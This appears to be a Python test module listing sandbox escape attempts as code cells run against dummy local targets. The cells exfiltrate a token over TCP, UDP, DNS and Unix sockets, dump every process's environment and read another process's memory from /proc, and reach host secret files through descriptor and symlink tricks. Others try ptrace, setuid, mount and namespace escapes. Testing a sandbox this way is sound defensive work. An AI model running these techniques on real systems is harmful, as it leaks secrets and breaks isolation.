"""What hostile code in a cell would try. Each attack is a cell; its effect is seen at the target, or as printed text.

The same cell is run unsealed against the dummy targets first: an attack that has no effect there proves nothing.
"""

from collections.abc import Callable
from dataclasses import dataclass

from tests.sandbox.targets import Targets


@dataclass(frozen=True)
class Attack:
    """`source(targets)` is the cell; `heard`: the effect arrives at a socket; else the cell prints `evidence`."""

    name: str
    source: Callable[[Targets], str]
    heard: bool = False
    evidence: Callable[[Targets], str] = lambda targets: targets.token


def _tcp(t: Targets) -> str:
    return f"import socket\ns = socket.create_connection(('127.0.0.1', {t.tcp}), 2)\ns.sendall(b'{t.token}')"


def _tcp_by_number(t: Targets) -> str:
    # the system call itself, past every Python wrapper
    return f"""
import ctypes, struct, platform
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.socket(2, 1, 0)
address = struct.pack('=H', 2) + struct.pack('>H', {t.tcp}) + bytes([127, 0, 0, 1]) + bytes(8)
print(fd, libc.connect(fd, address, 16), libc.write(fd, b'{t.token}', {len(t.token)}))
"""


def _urllib_subprocess(t: Targets) -> str:
    return f"""
import subprocess, sys
program = "import urllib.request; urllib.request.urlopen('http://127.0.0.1:{t.tcp}/{t.token}', timeout=2)"
print(subprocess.run([sys.executable, '-c', program], capture_output=True, text=True).stderr[-300:])
"""


def _udp(t: Targets) -> str:
    return f"""
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{t.token}', ('127.0.0.1', {t.udp}))
"""


def _dns(t: Targets) -> str:
    # a name can carry data out through a resolver: ask our dummy one directly
    return f"""
import socket
question = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([{len(t.token)}]) + b'{t.token}' + b'\\0\\0\\1\\0\\1'
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(question, ('127.0.0.1', {t.udp}))
"""


def _unix_path(t: Targets) -> str:
    return f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{t.unix}')\ns.sendall(b'{t.token}')"


def _unix_datagram(t: Targets) -> str:
    return f"""
import socket
try:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
except OSError:
    s = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)[0]
s.sendmsg([b'{t.token}'], [], 0, '{t.folder}/host.dgram')
"""


def _unix_abstract(t: Targets) -> str:
    return f"""
import socket
s = socket.socket(socket.AF_UNIX)
s.connect('\\0{t.abstract}')
s.sendall(b'{t.token}')
"""


def _netlink(t: Targets) -> str:
    return "import socket\nsocket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\nprint('netlink-opened')"


def _environment(t: Targets) -> str:
    return """
import glob, os
print(dict(os.environ))
for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        print(open(path, 'rb').read())
    except OSError:
        pass
"""


def _parents_proc(t: Targets) -> str:
    return """
import os
found = []
for pid in os.listdir('/proc'):
    if pid.isdigit():
        try:
            found.append(open(f'/proc/{pid}/cmdline').read())
        except OSError:
            pass
print('saw-the-host' if any('time.sleep(600)' in line for line in found) else found)
"""


def _parents_memory(t: Targets) -> str:
    return f"""
import re
for line in open('/proc/{t.victim}/maps'):
    if '[stack]' in line:
        start, end = (int(x, 16) for x in re.match(r'(\\w+)-(\\w+)', line).groups())
        memory = open('/proc/{t.victim}/mem', 'rb')
        memory.seek(start)
        print('read-memory', len(memory.read(end - start)))
"""


def _home(t: Targets) -> str:
    return """
import os, pwd, sys
python = f'{sys.base_prefix}/{sys.prefix}/.ipython/matplotlib'.split('/')
seen = []
for home in {os.path.expanduser('~'), '/root', *(entry.pw_dir for entry in pwd.getpwall())}:
    try:
        seen += [f'{home}/{name}' for name in os.listdir(home) if name not in python]
    except OSError:
        pass
print('files of the host' if [name for name in seen if '/tmp' not in name and '/home' in name or '/root/' in name] else seen)
"""


def _host_file(t: Targets) -> str:
    return f"print(open('{t.secret_file}').read())"


def _host_file_by_fd(t: Targets) -> str:
    return f"""
import os
for fd in range(3, 300):
    for path in (f'/proc/self/fd/{{fd}}/{t.secret_file}', f'/proc/self/fd/{{fd}}/../../../../..{t.secret_file}'):
        try:
            print(open(path).read())
        except OSError:
            pass
root = os.open('/', os.O_RDONLY)
print(os.read(os.open('../../..{t.secret_file}', os.O_RDONLY, dir_fd=root), 100))
"""


def _symlink(t: Targets) -> str:
    return f"""
import os
os.symlink('{t.secret_file}', 'link')
print(open('link').read())
"""


def _write_outside(t: Targets) -> str:
    return f"""
open('{t.folder}/written', 'w').write('{t.token}')
print(open('{t.folder}/written').read())
"""


def _packaged_data(t: Targets) -> str:
    return "from arch.data import sp500\nprint('last close', sp500.load()['Close'].iloc[-1])"


def _statsmodels_data(t: Targets) -> str:
    return "import statsmodels.api as sm\nprint('rows', len(sm.datasets.macrodata.load_pandas().data))"


def _sample_data(t: Targets) -> str:
    return """
import os, matplotlib
folder = os.path.join(matplotlib.get_data_path(), 'sample_data')
print('sample', len(open(os.path.join(folder, 'goog.npz'), 'rb').read()))
"""


def _other_packages(t: Targets) -> str:
    return """
import os, sys
for folder in sys.path:
    if os.path.exists(f'{folder}/pydantic/__init__.py'):
        print('read-other-code', len(open(f'{folder}/pydantic/__init__.py').read()))
"""


def _ptrace(t: Targets) -> str:
    return f"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    os._exit(7 if libc.ptrace(0x4206, {t.victim}, 0, 0) == 0 else 0)
print('attached' if os.waitstatus_to_exitcode(os.wait()[1]) == 7 else 'refused')
"""


def _kill(t: Targets) -> str:
    return f"import os, signal\nos.kill({t.victim}, signal.SIGCONT)\nprint('signal-delivered')"


def _setuid(t: Targets) -> str:
    return "import os\nos.setuid(12345)\nprint('now', os.getuid() == 12345 and 'somebody-else')"


def _mount(t: Targets) -> str:
    return """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x20000)
libc.mount(b'none', b'/', None, 16384 | (1 << 18), None)
print('mounted' if libc.mount(b'none', b'/mnt', b'tmpfs', 0, b'size=1m') == 0 else ctypes.get_errno())
"""


def _user_namespace(t: Targets) -> str:
    return """
import ctypes, os
if os.fork() == 0:
    code = ctypes.CDLL(None, use_errno=True).unshare(0x10000000)
    os._exit(7 if code == 0 else 0)
print('unshared' if os.waitstatus_to_exitcode(os.wait()[1]) == 7 else 'refused')
"""


ATTACKS = (
    Attack("tcp", _tcp, heard=True),
    Attack("tcp by system call", _tcp_by_number, heard=True),
    Attack("urllib in a subprocess", _urllib_subprocess, heard=True),
    Attack("udp", _udp, heard=True),
    Attack("dns", _dns, heard=True),
    Attack("unix socket by path", _unix_path, heard=True),
    Attack("unix datagram by path", _unix_datagram, heard=True),
    Attack("abstract unix socket", _unix_abstract, heard=True),
    Attack("netlink", _netlink, evidence=lambda t: "netlink-opened"),
    Attack("environment of everybody", _environment),
    Attack("processes of the host", _parents_proc, evidence=lambda t: "saw-the-host"),
    Attack("memory of another process", _parents_memory, evidence=lambda t: "read-memory"),
    Attack("home folder", _home, evidence=lambda t: "files of the host"),
    Attack("file of the host", _host_file),
    Attack("file of the host by descriptor", _host_file_by_fd),
    Attack("symbolic link", _symlink),
    Attack("write outside", _write_outside),
    Attack("data in arch", _packaged_data, evidence=lambda t: "last close"),
    Attack("data in statsmodels", _statsmodels_data, evidence=lambda t: "rows 203"),
    Attack("data in matplotlib", _sample_data, evidence=lambda t: "sample "),
    Attack("packages beside the analysis stack", _other_packages, evidence=lambda t: "read-other-code"),
    Attack("ptrace", _ptrace, evidence=lambda t: "attached"),
    Attack("signal to another process", _kill, evidence=lambda t: "signal-delivered"),
    Attack("user namespace", _user_namespace, evidence=lambda t: "unshared"),
)

#: Only somebody with rights has the effect unsealed.
ATTACKS_OF_ROOT = (
    Attack("setuid", _setuid, evidence=lambda t: "somebody-else"),
    Attack("mount", _mount, evidence=lambda t: "mounted"),
)
